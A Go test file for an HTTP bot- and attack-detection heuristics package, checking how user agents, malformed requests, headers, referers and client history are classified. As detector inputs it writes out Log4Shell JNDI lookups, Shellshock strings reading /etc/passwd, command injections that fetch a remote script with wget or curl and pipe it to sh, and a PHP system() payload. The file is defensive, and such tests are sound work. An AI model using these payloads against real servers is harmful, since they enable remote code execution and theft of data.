package heuristics_test

import (
	"fmt"
	"math"
	"slices"
	"strings"
	"testing"

	"github.com/headgate/headgate/featurestore/traffic"
	"github.com/headgate/headgate/heuristics"
)

func TestWhatAnAgentDeclares(t *testing.T) {
	for agent, want := range map[string]heuristics.Finding{
		browser: heuristics.NoFinding,
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1": heuristics.NoFinding,
		"":                      heuristics.FindingNoAgent,
		"curl/8.5.0":            heuristics.FindingDeclaredTool,
		"python-requests/2.32":  heuristics.FindingDeclaredTool,
		"Go-http-client/2.0":    heuristics.FindingDeclaredTool,
		"okhttp/4.12.0":         heuristics.FindingDeclaredTool,
		"Example/7 okhttp/4.12": heuristics.NoFinding,
		"Example/7.1 CFNetwork/1399 Darwin/22.1.0":                                 heuristics.NoFinding,
		"sqlmap/1.7.2#stable (https://sqlmap.org)":                                 heuristics.FindingDeclaredTool,
		"Scrapy/2.11 (+https://scrapy.org)":                                        heuristics.FindingDeclaredTool,
		"Mozilla/5.0":                                                              heuristics.FindingDeclaredTool,
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": heuristics.FindingDeclaredCrawler,
		"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)":        heuristics.FindingDeclaredCrawler,
		"Feedly/1.0 (+http://www.feedly.com/fetcher.html)":                                                              heuristics.FindingDeclaredCrawler,
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36": heuristics.FindingHeadless,
		"${jndi:ldap://192.0.2.1/a}":                heuristics.FindingInjection,
		"() { :; }; /bin/bash -c 'cat /etc/passwd'": heuristics.FindingInjection,
		browser + " ${${lower:j}ndi:dns://x}":       heuristics.FindingInjection,
		"x; wget http://192.0.2.1/a -O - | sh":      heuristics.FindingInjection,
		"<?php system('id'); ?>":                    heuristics.FindingInjection,
		"a\x01b":                                    heuristics.FindingMalformed,
		"Mozilla/5.0 (Windows; U; Windows NT 5.1; id; rv:1.9) Gecko/2008052906 Firefox/3.0": heuristics.NoFinding,
	} {
		if got := (heuristics.Rules{}).Request(event("GET", "/", agent, "")); got != want {
			t.Errorf("%q: %v, want %v", agent, got, want)
		}
	}
}

// A log without that field does not say that no user agent was sent.
func TestAgentThatALogDoesNotTell(t *testing.T) {
	ev := event("GET", "/", "", "")
	ev.Facts |= traffic.FactAgentUnknown
	if got := (heuristics.Rules{}).Request(ev); got != heuristics.NoFinding {
		t.Error(got)
	}
}

func TestMalformedRequests(t *testing.T) {
	for name, change := range map[string]func(*traffic.Event){
		"no HTTP":        func(ev *traffic.Event) { ev.Method = "" },
		"CONNECT":        func(ev *traffic.Event) { ev.Method, ev.Path = "CONNECT", "www.example.org:443" },
		"TRACE":          func(ev *traffic.Event) { ev.Method = "TRACE" },
		"lower case":     func(ev *traffic.Event) { ev.Method = "get" },
		"no path":        func(ev *traffic.Event) { ev.Path = "" },
		"relative":       func(ev *traffic.Event) { ev.Path = "index.html" },
		"blank":          func(ev *traffic.Event) { ev.Path = "/a b" },
		"angle bracket":  func(ev *traffic.Event) { ev.Path = "/<a>" },
		"backslash":      func(ev *traffic.Event) { ev.Path = `/a\b` },
		"control":        func(ev *traffic.Event) { ev.Path = "/a\x01" },
		"101 fields":     func(ev *traffic.Event) { ev.Headers = 101 },
		"HTTP/1 no host": func(ev *traffic.Event) { ev.Host, ev.Version = "", 10 },
	} {
		ev := event("GET", "/", browser, "")
		change(ev)
		if got := (heuristics.Rules{}).Request(ev); got != heuristics.FindingMalformed {
			t.Errorf("%s: %v", name, got)
		}
	}
	for name, change := range map[string]func(*traffic.Event){
		"OPTIONS *":  func(ev *traffic.Event) { ev.Method, ev.Path = "OPTIONS", "*" },
		"HEAD":       func(ev *traffic.Event) { ev.Method = "HEAD" },
		"PROPFIND":   func(ev *traffic.Event) { ev.Method = "PROPFIND" },
		"30 fields":  func(ev *traffic.Event) { ev.Headers = 30 },
		"log's host": func(ev *traffic.Event) { ev.Host, ev.Version, ev.Facts = "", 10, ev.Facts|traffic.FactHostUnknown },
	} {
		ev := event("GET", "/", browser, "")
		change(ev)
		if got := (heuristics.Rules{}).Request(ev); got != heuristics.NoFinding {
			t.Errorf("%s: %v", name, got)
		}
	}
}

func TestFieldsOfTheHeader(t *testing.T) {
	for field, want := range map[string]bool{
		"X-Api-Version: ${jndi:ldap://192.0.2.1/a}":                      true,
		"Accept-Language: ${${::-j}ndi:rmi://192.0.2.1/a}":               true,
		"Cookie: a=b; c=${jndi:dns://x}":                                 true,
		"X-Test: () { :;}; echo":                                         true,
		"X-Forwarded-For: $(curl http://192.0.2.1/x)":                    true,
		"X-Price: $5 and more":                                           false,
		"Cookie: prefs={\"a\":\"$5\"}; b=() {x":                          false,
		"Authorization: Basic dXNlcjpwYXNz":                              false,
		"Accept: text/html,application/xhtml+xml,application/xml;q=0.9":  false,
		"Sec-Ch-Ua: \"Chromium\";v=\"141\", \"Not?A_Brand\";v=\"8\"":     false,
		"X-Long: " + strings.Repeat("a", heuristics.MaxText) + "${jndi:": false, // out of bounds
	} {
		name, value, _ := strings.Cut(field, ": ")
		if got := heuristics.FieldFacts(name, value) == traffic.FactInjected; got != want {
			t.Errorf("%s: %v", field, got)
		}
	}
}

func TestReferers(t *testing.T) {
	for referer, want := range map[string]bool{
		"https://www.google.com/": false,
		"https://www.example.org/search?q=cat+/etc/passwd+%27+or+1%3D1": false,
		"https://www.example.org/?a=b|c&d=(e)":                          false,
		"${jndi:ldap://192.0.2.1/a}":                                    true,
		"https://x.example/%24%7Bjndi:ldap://192.0.2.1/a%7D":            true,
		"() { :; }; echo; /bin/bash":                                    true,
	} {
		if got := heuristics.RequestFacts("", referer, browser) == traffic.FactInjected; got != want {
			t.Errorf("%s: %v", referer, got)
		}
	}
}

func TestUnknownClients(t *testing.T) {
	nothing := heuristics.NoHistory()
	with := func(set map[string]float32) (h heuristics.History) {
		h = heuristics.NoHistory()
		names, _ := heuristics.AppendFeatures(nil)
		for i, name := range names {
			if v, ok := set[name]; ok {
				h[i] = v
			}
		}
		return h
	}
	for name, c := range map[string]struct {
		history heuristics.History
		want    heuristics.Finding
	}{
		"nothing":                      {nothing, heuristics.FindingUnknownClient},
		"one request":                  {with(map[string]float32{"ip/requests_1h": 1, "ip_ua/requests_1h": 1}), heuristics.NoFinding},
		"one, an hour ago":             {with(map[string]float32{"ip/requests_1h": 0.37, "ip_ua/requests_1h": 0.37}), heuristics.FindingUnknownClient},
		"a flood":                      {with(map[string]float32{"ip/requests_1h": 1e6}), heuristics.NoFinding},
		"a pair whose address is gone": {with(map[string]float32{"ip_ua/requests_1h": 50}), heuristics.NoFinding},
		"a household":                  {with(map[string]float32{"net64/requests_10m": 90, "net64/distinct_addresses_10m": 5}), heuristics.FindingUnknownClient},
		"one that changes its address": {with(map[string]float32{"net64/requests_10m": 300, "net64/distinct_addresses_10m": 280}), heuristics.NoFinding},
		"the same in IPv4":             {with(map[string]float32{"net/requests_10m": 100, "net/distinct_addresses_10m": 90}), heuristics.NoFinding},
		"people behind gateways":       {with(map[string]float32{"net/requests_10m": 4000, "net/distinct_addresses_10m": 90}), heuristics.FindingUnknownClient},
	} {
		if got := (heuristics.Rules{}).WithHistory(heuristics.NoFinding, event("GET", "/", browser, ""), &c.history); got != c.want {
			t.Errorf("%s: %v, want %v", name, got, c.want)
		}
	}
	if got := (heuristics.Rules{}).WithHistory(heuristics.FindingDamningPath, event("GET", "/", browser, ""), &nothing); got != heuristics.FindingDamningPath {
		t.Errorf("what is certain became %v", got)
	}
}

func TestWhatAPageAsksFor(t *testing.T) {
	fetch := func(site, mode string) traffic.Facts {
		c := traffic.Claims{UserAgent: browser, FetchSite: site, FetchMode: mode, FetchDest: "empty", Accept: "*/*"}
		known := traffic.FactHeadersKnown | traffic.FactRefererKnown | traffic.FactSecFetch | traffic.FactReferer | traffic.FactRefererSame
		return known | c.Facts(known)
	}
	for name, c := range map[string]struct {
		path  string
		facts traffic.Facts
		want  heuristics.Finding
	}{
		"fetch":              {"/api/cart", fetch("same-origin", "cors"), heuristics.FindingFirstFetch},
		"without CORS":       {"/cart", fetch("same-origin", "same-origin"), heuristics.FindingFirstFetch},
		"of a sister's page": {"/api/cart", fetch("same-site", "cors"), heuristics.FindingFirstFetch},
		"of another site":    {"/api/cart", fetch("cross-site", "cors"), heuristics.FindingUnknownClient},
		"a page":             {"/", fetch("none", "navigate"), heuristics.FindingUnknownClient},
		"without Sec-Fetch":  {"/api/cart", traffic.FactHeadersKnown | traffic.FactRefererKnown | traffic.FactReferer | traffic.FactRefererSame, heuristics.FindingFirstFetch},
		"XHR":                {"/cart", traffic.FactHeadersKnown | traffic.FactRefererKnown | traffic.FactReferer | traffic.FactRefererSame | traffic.FactXHR, heuristics.FindingFirstFetch},
		"no Referer":         {"/api/cart", traffic.FactHeadersKnown | traffic.FactRefererKnown, heuristics.FindingUnknownClient},
	} {
		ev := event("GET", c.path, browser, "")
		ev.Facts = c.facts
		nothing := heuristics.NoHistory()
		if got := (heuristics.Rules{}).WithHistory(heuristics.NoFinding, ev, &nothing); got != c.want {
			t.Errorf("%s: %v, want %v", name, got, c.want)
		}
	}
}

// The parts of a client's first page come after it, within seconds. What comes later, or in masses,
// is for the model.
func TestWhatAPageAsksForSoonAfterIt(t *testing.T) {
	ev := event("GET", "/api/cart", browser, "https://www.example.org/")
	ev.Facts |= traffic.FactRefererSame
	page := event("GET", "/", browser, "https://www.example.org/")
	page.Facts |= traffic.FactRefererSame
	for name, c := range map[string]struct {
		requests, age, addresses float32
		ev                       *traffic.Event
		want                     heuristics.Finding
	}{
		"at once":            {12, 0.6, 1, ev, heuristics.FindingFirstFetch},
		"another page":       {12, 0.6, 1, page, heuristics.NoFinding},
		"later":              {12, 60, 1, ev, heuristics.NoFinding},
		"in masses":          {400, 0.6, 1, ev, heuristics.NoFinding},
		"from a new address": {0, 0, 90, ev, heuristics.NoFinding},
	} {
		h := heuristics.NoHistory()
		h[0], h[1] = c.requests, c.age
		names, _ := heuristics.AppendFeatures(nil)
		h[slices.Index(names, "net64/requests_10m")], h[slices.Index(names, "net64/distinct_addresses_10m")] = c.addresses, c.addresses
		if got := (heuristics.Rules{}).WithHistory(heuristics.NoFinding, c.ev, &h); got != c.want {
			t.Errorf("%s: %v, want %v", name, got, c.want)
		}
	}
}

// What is switched off is not found, and everything else is.
func TestSwitchedOff(t *testing.T) {
	const jndi = "/?x=${jndi:ldap://192.0.2.1/a}"
	fetch := event("GET", "/api/x", browser, "https://www.example.org/")
	fetch.Facts |= traffic.FactRefererSame
	examples := map[string]*traffic.Event{
		"injection": event("GET", jndi, browser, ""), "damning_path": event("GET", "/.env", browser, ""), "malformed": event("TRACE", "/", browser, ""),
		"headless": event("GET", "/", "HeadlessChrome/1 AppleWebKit/537.36", ""), "declared_tool": event("GET", "/", "curl/8", ""),
		"declared_crawler": event("GET", "/", "Googlebot/2.1 AppleWebKit/1 (KHTML, like Gecko)", ""), "no_agent": event("GET", "/", "", ""), "forged_agent": forgery,
		"first_fetch": fetch, "unknown_client": event("GET", "/", browser, ""),
	}
	find := func(off []string, ev *traffic.Event) string {
		r, err := heuristics.New(off)
		if err != nil {
			t.Fatal(err)
		}
		nothing := heuristics.NoHistory()
		return r.WithHistory(r.Request(ev), ev, &nothing).String()
	}
	for _, name := range heuristics.Names() {
		if got := find(nil, examples[name]); got != name {
			t.Errorf("%s is found as %s", name, got)
		}
		if got := find([]string{name}, examples[name]); got == name {
			t.Errorf("%s is found although it is switched off", name)
		}
		if got := find(heuristics.Names(), examples[name]); got != "none" {
			t.Errorf("%s is found with all switched off, of %s", got, name)
		}
	}
}

func TestWanted(t *testing.T) {
	names, places := heuristics.AppendFeatures([]string{"ip/gap_mean", "net/requests_10m"})
	values := make([]float32, len(names))
	for i := range values {
		values[i] = float32(i)
	}
	own, _ := heuristics.AppendFeatures(nil)
	for i, v := range places.History(values) {
		if names[int(v)] != own[i] {
			t.Errorf("%s is read from the place of %s", own[i], names[int(v)])
		}
	}
	if names[0] != "ip/gap_mean" || names[1] != "net/requests_10m" || len(names) != 1+len(own) {
		t.Errorf("%q", names)
	}
	for i, v := range heuristics.NoHistory() {
		if !math.IsNaN(float64(v)) {
			t.Errorf("%s of nobody is %v", own[i], v)
		}
	}
}

func TestRequestAllocatesNothing(t *testing.T) {
	var events []*traffic.Event
	for i := range 400 {
		events = append(events, event("GET", fmt.Sprintf("/a/%%2e/b%d.php", i), fmt.Sprint(browser, i), ""))
	}
	next := 0
	nothing := heuristics.NoHistory()
	if n := testing.AllocsPerRun(len(events)-1, func() {
		var r heuristics.Rules
		ev := events[next]
		next++
		r.WithHistory(r.Request(ev), ev, &nothing)
		heuristics.RequestFacts("id=1%20and%20b&q=x'y", "https://x.example/?q=%3C", ev.UserAgent)
		heuristics.FieldFacts("X-A", "$b")
	}); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

// FuzzRequest takes any request: the same is found again, and a path with all its bytes escaped is
// no less damning.
func FuzzRequest(f *testing.F) {
	for target := range strings.Lines(damningTargets + ordinaryTargets) {
		f.Add(strings.TrimSpace(target), browser, "")
	}
	f.Add("/\x00%", "%%%u002", "%c0%")
	f.Add("/*", "/*!5", "/*!*/")
	f.Add("/p\xc1/.git", browser, "")
	f.Fuzz(func(t *testing.T, target, agent, referer string) {
		var r heuristics.Rules
		ev := event("GET", target, agent, referer)
		copied := *ev
		found := r.Request(ev)
		if again := r.Request(event("GET", target, agent, referer)); again != found || *ev != copied {
			t.Errorf("%q, %q, %q: %v, then %v", target, agent, referer, found, again)
		}
		path, _ := traffic.SplitTarget(target)
		if found != heuristics.FindingDamningPath || !strings.HasPrefix(path, "/") || strings.ContainsAny(path, "%") || 3*len(path) > traffic.MaxPath {
			return
		}
		escaped := "/"
		for i := 1; i < len(path); i++ {
			escaped += fmt.Sprintf("%%%02x", path[i])
		}
		got := r.Request(event("GET", escaped, browser, ""))
		if got != found && got != heuristics.FindingInjection { // which is surer: an overlong NUL, say
			t.Errorf("%q: %v, escaped %v", path, found, got)
		}
	})
}

func BenchmarkRequest(b *testing.B) {
	for name, ev := range map[string]*traffic.Event{
		"page":  event("GET", "/articles/2024/how-to-grow-tomatoes", browser, ""),
		"asset": event("GET", "/assets/js/app.3f2a1b.js", browser, ""),
		"env":   event("GET", "/.env", browser, ""),
		"long":  event("GET", "/"+strings.Repeat("a%2e/", 60), browser, ""),
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				heuristics.Rules{}.Request(ev)
			}
		})
	}
}

func BenchmarkRequestFacts(b *testing.B) {
	for name, query := range map[string]string{
		"none": "", "plain": "id=12&page=3", "campaign": "utm_source=newsletter&utm_medium=email&utm_campaign=spring%20sale&fbclid=IwAR0abcDEF_ghi-JKL",
		"longest": strings.Repeat("a=%27+or+b&", 46),
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				heuristics.RequestFacts(query, "https://www.example.org/articles/", browser)
			}
		})
	}
}
